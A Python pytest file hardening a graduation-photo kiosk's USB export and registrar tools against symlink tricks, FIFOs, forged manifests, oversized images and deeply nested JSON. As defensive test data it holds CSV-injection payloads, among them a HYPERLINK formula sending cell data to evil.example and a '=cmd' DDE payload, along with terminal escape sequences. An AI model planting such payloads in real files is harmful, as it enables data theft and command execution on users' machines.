"""Handoff that cannot be tricked: each defect found by trying the booth and the registrar's
tools as an attacker (or an unlucky user) would, reproduced here and shown fixed.

1. a prepared stick's links;  2. spool history that doubled at every retake;  3. the registrar's
tools opening what a listed photo links to (/dev/zero, a FIFO, a photo outside the folder);
4. merge trusting the manifest over the sealed identity, raw CSV cells and terminal escapes,
and deleting its own fresh files;  5. a tiny file declaring a huge picture;  6. a manifest
nested 100,000 deep, a QR code urllib cannot split, a non-string verdict, duplicate entries;
7. the stick inconsistent in the middle of a retake's export.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from handoff_fixtures import KEY, make_student, photo_jpeg, record, sealed_photo, verifies
from PIL import Image

from kiosk.handoff.export import export_pending
from kiosk.handoff.export import manifest as mf
from kiosk.handoff.export.durable import TEMP_PREFIX, sha256_bytes
from kiosk.handoff.export.stick import MSG_LINKS, ProbedStatus
from kiosk.handoff.registrar.merge import merge_exports
from kiosk.handoff.registrar.verify import verify_export
from kiosk.handoff.spool import Spool

TEMPLATE = "{id_number}.jpg"
WHEN = datetime(2026, 6, 1, 9, tzinfo=timezone.utc)


def status(root: Path, fs: str = "ext4") -> ProbedStatus:
    return ProbedStatus(True, str(root), 10**9, False, fs)


def export(spool: Spool, usb: Path):
    return export_pending(spool, usb, booth_id="b1", template=TEMPLATE, status=status(usb))


def booth_export(tmp: Path, people, name: str = "b1") -> tuple[Path, Path]:
    """A real export of sealed photos whose manifest times equal the sealed ones."""
    spool = Spool(tmp / f"state-{name}")
    for n, s in enumerate(people):
        at = WHEN + timedelta(minutes=n)
        rec = record()
        rec["captured_at"] = at.isoformat(timespec="seconds")
        spool.add(s, sealed_photo(s, n, captured_at=at), rec)
    usb = tmp / f"usb-{name}"
    usb.mkdir()
    assert export(spool, usb).ok
    return usb, next(usb.rglob(mf.MANIFEST_JSON)).parent


def rewrite_manifest(folder: Path, change) -> None:
    doc = json.loads((folder / mf.MANIFEST_JSON).read_text("utf-8"))
    change(doc)
    (folder / mf.MANIFEST_JSON).write_text(json.dumps(doc, ensure_ascii=False), "utf-8")


# --- 1. the booth's export and a prepared stick's links ---------------------------------------

def test_export_refuses_a_stick_whose_export_folder_is_a_link(tmp_path, students):
    spool = Spool(tmp_path / "state")
    spool.add(students[0], photo_jpeg(1), record())
    usb, elsewhere = tmp_path / "usb", tmp_path / "elsewhere"
    usb.mkdir()
    elsewhere.mkdir()
    (usb / "grad-photos").symlink_to(elsewhere)          # the prepared stick
    report = export(spool, usb)
    assert report.problem == MSG_LINKS and report.message.zh and report.message.en
    assert list(elsewhere.iterdir()) == []               # nothing written outside the stick
    assert len(spool.pending()) == 1                     # not marked exported: nothing lost
    assert spool.purge(retention_days=0) == 0


def test_export_replaces_planted_links_instead_of_writing_through_them(tmp_path, students):
    a = students[0]
    spool = Spool(tmp_path / "state")
    spool.add(a, photo_jpeg(1), record())
    usb = tmp_path / "usb"
    folder = usb / "grad-photos" / "b1" / datetime.now().date().isoformat()
    folder.mkdir(parents=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    for name in (f"{a.id_number}.jpg", mf.MANIFEST_CSV, mf.INDEX_HTML):
        (folder / name).symlink_to(victim)
    (folder / mf.MANIFEST_JSON).symlink_to("/dev/zero")   # and a manifest that never ends
    report = export(spool, usb)
    assert report.ok, report.message
    assert victim.read_text() == "precious"
    for name in (f"{a.id_number}.jpg", mf.MANIFEST_JSON, mf.MANIFEST_CSV, mf.INDEX_HTML):
        assert not (folder / name).is_symlink() and (folder / name).is_file()
    assert (folder / f"{a.id_number}.jpg").read_bytes() == photo_jpeg(1)


# --- 2. spool history linear, not 2^n -------------------------------------------------------------

def test_eighteen_retakes_keep_a_small_linear_history(tmp_path, students):
    spool = Spool(tmp_path)
    usb = tmp_path / "usb"
    usb.mkdir()
    s = students[0]
    for take in range(19):                       # the first take and 18 retakes, each exported
        spool.add(s, photo_jpeg(take), record())
        assert export(spool, usb).ok
    [item] = spool.items()
    assert len(item.history) == 18
    assert len({h["item_id"] for h in item.history}) == 18          # each earlier take once
    assert (item.folder / "record.json").stat().st_size < 20_000     # 26.9 MB before the fix
    doc = json.loads(next(usb.rglob(mf.MANIFEST_JSON)).read_text("utf-8"))
    [entry] = doc["photos"]
    assert len(entry["history"]) == 18
    assert next(usb.rglob(mf.MANIFEST_JSON)).stat().st_size < 50_000


# --- 3. the registrar's tools and what a listed photo links to ------------------------------------

@pytest.mark.timeout(60)
def test_registrar_never_opens_links_devices_or_fifos(tmp_path):
    people = [make_student(i) for i in range(60, 64)]
    usb, folder = booth_export(tmp_path, people)
    a, b, c, d = people
    outside = tmp_path / "outside.jpg"
    outside.write_bytes((folder / f"{c.id_number}.jpg").read_bytes())
    (folder / f"{a.id_number}.jpg").unlink()
    (folder / f"{a.id_number}.jpg").symlink_to("/dev/zero")       # MemoryError before
    (folder / f"{b.id_number}.jpg").unlink()
    os.mkfifo(folder / f"{b.id_number}.jpg")                       # hung forever before
    (folder / f"{c.id_number}.jpg").unlink()
    (folder / f"{c.id_number}.jpg").symlink_to(outside)            # passed verify before
    [fc] = verify_export(usb, key=KEY)
    rows = {r.student_id: r for r in fc.rows}
    for s in (a, b, c):
        assert rows[s.student_id].checksum_ok is None and rows[s.student_id].status == "fail"
    assert rows[d.student_id].status == "pass"
    report = merge_exports([usb], tmp_path / "batch", key=KEY)
    assert report.merged == 1 and len(report.rejected) == 3
    assert sorted(p.name for p in (tmp_path / "batch").glob("*.jpg")) == [f"{d.id_number}.jpg"]


def test_a_linked_or_oversized_manifest_is_damage_not_a_crash(tmp_path):
    people = [make_student(i) for i in range(64, 66)]
    usb, folder = booth_export(tmp_path, people)
    (folder / mf.MANIFEST_JSON).unlink()
    (folder / mf.MANIFEST_JSON).symlink_to("/dev/zero")
    manifest, problems = mf.load(folder)
    assert any("manifest.json unreadable" in p for p in problems)
    assert len(manifest.entries) == 2                      # the CSV still lists the photos


# --- 4. the sealed identity is the truth; CSV cells and terminal output are safe ------------------

def test_verify_and_merge_report_every_disagreement_with_the_sealed_identity(tmp_path):
    people = [make_student(i) for i in range(70, 74)]
    usb, folder = booth_export(tmp_path, people)
    a, b, c, d = people
    stranger = make_student(99)

    def lie(doc):
        for e in doc["photos"]:
            if e["student_id"] == a.student_id:
                e["name"] = "冒名顶替"
            if e["student_id"] == b.student_id:
                e["captured_at"] = "2026-06-03T10:00:00+00:00"     # newer than sealed: wins?
            if e["student_id"] == c.student_id:
                e["name"], e["captured_at"] = "别人", "2025-01-01T00:00:00+00:00"
    rewrite_manifest(folder, lie)
    # d's file renamed to carry another ID number (the manifest follows, checksums match)
    (folder / f"{d.id_number}.jpg").rename(folder / f"{stranger.id_number}.jpg")
    rewrite_manifest(folder, lambda doc: [e.update(file=f"{stranger.id_number}.jpg")
                                          for e in doc["photos"] if e["student_id"] == d.student_id])
    [fc] = verify_export(usb, key=KEY)
    rows = {r.student_id: r for r in fc.rows}
    assert all(rows[s.student_id].identity_ok is False for s in people)
    assert any("姓名 name" in p for p in rows[a.student_id].problems)
    assert any("capture time" in p for p in rows[b.student_id].problems)
    assert sum("sealed identity differs" in p for p in rows[c.student_id].problems) == 2
    assert any("file name" in p for p in rows[d.student_id].problems)
    report = merge_exports([usb], tmp_path / "batch", key=KEY)
    assert report.merged == 0 and len(report.rejected) == 4
    reasons = dict(report.rejected)
    assert "name" in reasons[f"{folder}/{a.id_number}.jpg"]
    assert "capture time" in reasons[f"{folder}/{b.id_number}.jpg"]


HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"


def test_every_csv_cell_is_neutralised_and_the_terminal_sees_no_escapes(tmp_path, capsys):
    from kiosk.cli import main
    people = [make_student(i) for i in range(74, 76)]
    usb, folder = booth_export(tmp_path, people)
    a, b = people

    def poison(doc):
        for e in doc["photos"]:
            e["captured_at"] = HOSTILE
            e["booth_id"] = "@SUM(1+1)"
            if e["student_id"] == b.student_id:
                e["name"] = "\x1b[2J\x1b]0;pwned\x07王五"
    rewrite_manifest(folder, poison)
    keyfile = tmp_path / "k"
    keyfile.write_text(KEY.hex())
    keyfile.chmod(0o600)
    out = tmp_path / "batch"
    main(["registrar", "merge", str(usb), "--out", str(out), "--key", str(keyfile),
          "--jobs", "1"])
    merge_out = capsys.readouterr().out
    main(["registrar", "verify", str(usb), "--key", str(keyfile), "--no-image-checks",
          "--jobs", "1"])
    verify_out = capsys.readouterr().out
    for text in (merge_out, verify_out):
        assert "\x1b" not in text and "\x07" not in text
    assert "\\x1b[2J" in verify_out
    cells = [c for r in csv.reader(io.StringIO((out / "conflicts.csv").read_text("utf-8-sig")))
             for c in r]
    assert any("HYPERLINK" in c for c in cells)           # the detail is there ...
    assert not [c for c in cells if c and c[0] in "=+-@\r"]   # ... but never as a formula
    # the manifests the project writes, from a manifest carrying formulas
    m = mf.Manifest("=cmd|' /C calc'!A0", "2026-06-01")
    m.put(mf.Entry(student_id="-2+3", name="+SUM(A1)", id_number=a.id_number, college="@x",
                   class_name="\tx", file="=a.jpg", captured_at=HOSTILE, verdict="pass",
                   sha256="0" * 64, size=1, booth_id="=1+1",
                   checks=[{"id": "=1", "status": "warn"}]))
    rows = list(csv.reader(io.StringIO(m.to_csv().decode("utf-8-sig"))))
    for cell in [c for r in rows for c in r]:
        assert cell[:1] not in ("=", "+", "-", "@", "\r"), cell
        assert not (cell.startswith("\t") and cell[1:2] in ("=", "+", "-", "@"))


def test_merge_keeps_its_own_fresh_files_when_an_earlier_batch_lists_them(tmp_path):
    people = [make_student(i) for i in range(76, 78)]
    usb, _ = booth_export(tmp_path, people)
    out = tmp_path / "batch"
    assert merge_exports([usb], out, key=KEY).merged == 2
    photos = json.loads((out / mf.MANIFEST_JSON).read_text("utf-8"))["photos"]
    assert [p["checks"] for p in photos] == [record()["checks"]] * 2   # full results kept

    def list_own_files(doc):     # an earlier batch whose manifest names the batch's own files
        for n, name in enumerate((mf.INDEX_HTML, mf.MANIFEST_CSV)):
            doc["photos"].append(dict(doc["photos"][0], student_id=f"20209999{n:02d}",
                                      file=name))
    rewrite_manifest(out, list_own_files)
    report = merge_exports([usb], out, key=KEY)
    assert report.merged == 2
    for name in (mf.INDEX_HTML, mf.MANIFEST_CSV, mf.MANIFEST_JSON, "conflicts.csv"):
        assert (out / name).is_file(), name
    [fc] = verify_export(out, key=KEY)
    assert fc.ok


# --- 5. tiny files, huge images ------------------------------------------------------------------

def huge_jpeg(width: int = 12000, height: int = 12000) -> bytes:
    """A real 16x16 JPEG whose frame header claims ``width`` x ``height`` (~630 bytes)."""
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (100, 120, 140)).save(out, "JPEG", quality=50)
    data = bytearray(out.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 7] = height.to_bytes(2, "big")
    data[sof + 7:sof + 9] = width.to_bytes(2, "big")
    return bytes(data)


def run_kiosk(*args: str, limit_mb: int = 1500) -> subprocess.CompletedProcess:
    """The real command in a process that may not grow beyond ``limit_mb`` of memory: a
    decoded 12000x12000 picture (432 MB of RGB, 2.5 GB at peak before) cannot fit."""
    import resource

    def cap():
        resource.setrlimit(resource.RLIMIT_DATA, (limit_mb << 20, limit_mb << 20))
    return subprocess.run([sys.executable, "-m", "kiosk.cli", *args], capture_output=True,
                          text=True, preexec_fn=cap, timeout=300)


def test_a_tiny_file_declaring_a_huge_picture_is_refused_before_decoding(tmp_path):
    path = tmp_path / "bomb.jpg"
    path.write_bytes(huge_jpeg())
    assert len(huge_jpeg()) < 700
    done = run_kiosk("check", str(path))
    assert done.returncode == 2, done.stderr
    assert "图像太大" in done.stderr and "too large" in done.stderr
    assert "Traceback" not in done.stderr
    done = run_kiosk("make", str(path), "--student-id", "2020000001", "--id-number",
                     make_student(1).id_number, "--name", "张三", "--out", str(tmp_path / "o"),
                     "--key", str(_keyfile(tmp_path)))
    assert done.returncode == 2 and "too large" in done.stderr, done.stderr
    done = run_kiosk("verify", "--no-image-checks", str(path), limit_mb=300)
    assert done.returncode == 1 and "12000×12000" in done.stdout, done.stderr
    assert "Traceback" not in done.stderr


def test_a_65535_by_1_png_gets_a_clear_message(tmp_path):
    path = tmp_path / "strip.png"
    Image.new("L", (65535, 1)).save(path)
    done = run_kiosk("check", str(path))
    assert done.returncode == 2
    assert "不是证件照" in done.stderr and "cannot be a portrait" in done.stderr
    assert "cv2.error" not in done.stderr and "Traceback" not in done.stderr


def _keyfile(tmp: Path) -> Path:
    key = tmp / "registrar.key"
    key.write_text(KEY.hex())
    key.chmod(0o600)
    return key


# --- 6. deep nesting, a QR code urllib cannot split, odd verdicts, duplicates --------------------

def test_a_manifest_nested_100000_deep_is_a_clean_error(tmp_path, capsys):
    from kiosk.cli import main
    folder = tmp_path / "usb" / "grad-photos" / "b1" / "2026-06-01"
    folder.mkdir(parents=True)
    (folder / mf.MANIFEST_JSON).write_text("[" * 100_000 + "]" * 100_000)
    manifest, problems = mf.load(folder)
    assert not manifest.entries and any("nested too deep" in p for p in problems)
    assert main(["registrar", "verify", str(tmp_path / "usb"), "--no-image-checks"]) == 1
    captured = capsys.readouterr()
    assert "nested too deep" in captured.out and "Traceback" not in captured.err


def test_a_url_qr_code_urllib_cannot_split_is_refused_in_two_languages():
    from kiosk.handoff.qr import QrPayloadError, parse_qr_payload
    with pytest.raises(QrPayloadError) as err:
        parse_qr_payload("http://[::1/?sid=2020000001&name=张三")
    assert err.value.message.zh and err.value.message.en


def test_a_non_string_verdict_is_never_a_pass_and_duplicates_are_reported(tmp_path):
    people = [make_student(i) for i in range(80, 83)]
    usb, folder = booth_export(tmp_path, people)
    a, b, c = people

    def damage(doc):
        for e in doc["photos"]:
            if e["student_id"] == a.student_id:
                e["verdict"] = {"pass": True}
        twin = dict(next(e for e in doc["photos"] if e["student_id"] == b.student_id))
        doc["photos"].append(twin)                      # b listed twice
        other = dict(next(e for e in doc["photos"] if e["student_id"] == c.student_id))
        other["student_id"] = "2020999999"               # c's file listed for someone else
        doc["photos"].append(other)
    rewrite_manifest(folder, damage)
    manifest, problems = mf.load(folder)
    assert a.student_id not in manifest.entries
    assert any("verdict" in p for p in problems)
    assert any("listed twice" in p and b.student_id in p for p in problems)
    assert any("already listed" in p for p in problems)
    [fc] = verify_export(usb, key=KEY)
    assert not fc.ok
    report = merge_exports([usb], tmp_path / "batch", key=KEY)
    assert a.student_id not in json.loads((tmp_path / "batch" / mf.MANIFEST_JSON)
                                          .read_text("utf-8"))["photos"].__repr__()
    assert report.merged == 2


# --- 7. the stick is consistent at every instant of a retake's export ----------------------------

def stick_is_consistent(usb: Path, by_id: dict) -> None:
    """What a registrar finds on a stick pulled at this instant."""
    for path in usb.rglob(mf.MANIFEST_JSON):
        folder = path.parent
        doc = json.loads(path.read_text("utf-8"))
        listed = {e["file"] for e in doc["photos"]}
        photos = {p.name for p in folder.glob("*.jpg") if not p.name.startswith("~")}
        assert photos <= listed | set(doc.get("staged", [])), photos - listed
        assert not [p for p in folder.iterdir()
                    if p.name.startswith(TEMP_PREFIX) and p.suffix == ".jpg"]
        for e in doc["photos"]:
            data = (folder / e["file"]).read_bytes()
            assert sha256_bytes(data) == e["sha256"], f"{e['file']} does not match its row"
            assert verifies(data, by_id[e["student_id"]])


def test_a_retake_never_leaves_a_row_whose_checksum_fails_at_any_step(tmp_path, monkeypatch):
    people = [make_student(i) for i in range(84, 87)]
    by_id = {s.student_id: s for s in people}
    spool = Spool(tmp_path / "state")
    usb = tmp_path / "usb"
    usb.mkdir()
    for n, s in enumerate(people):
        spool.add(s, sealed_photo(s, n), record())
    assert export(spool, usb).ok
    for n, s in enumerate(people[:2]):                         # two retakes and ...
        spool.add(s, sealed_photo(s, 10 + n), record())
    newcomer = make_student(87)
    by_id[newcomer.student_id] = newcomer
    spool.add(newcomer, sealed_photo(newcomer, 5), record())   # ... a new student
    steps = [0]
    real = {name: getattr(os, name) for name in ("replace", "rename", "unlink", "fsync")}

    def snapshot_then(name):
        def step(*args, **kwargs):
            steps[0] += 1
            stick_is_consistent(usb, by_id)          # the stick pulled right before this step
            return real[name](*args, **kwargs)
        return step
    for name in real:
        monkeypatch.setattr(os, name, snapshot_then(name))
    report = export(spool, usb)
    for name, fn in real.items():
        monkeypatch.setattr(os, name, fn)
    assert report.ok and len(report.exported) == 3 and steps[0] > 20
    stick_is_consistent(usb, by_id)
    [folder] = {p.parent for p in usb.rglob(mf.MANIFEST_JSON)}
    assert sorted(p.name for p in folder.glob("*.jpg")) == sorted(
        f"{s.id_number}.jpg" for s in by_id.values())          # the retakes kept their names
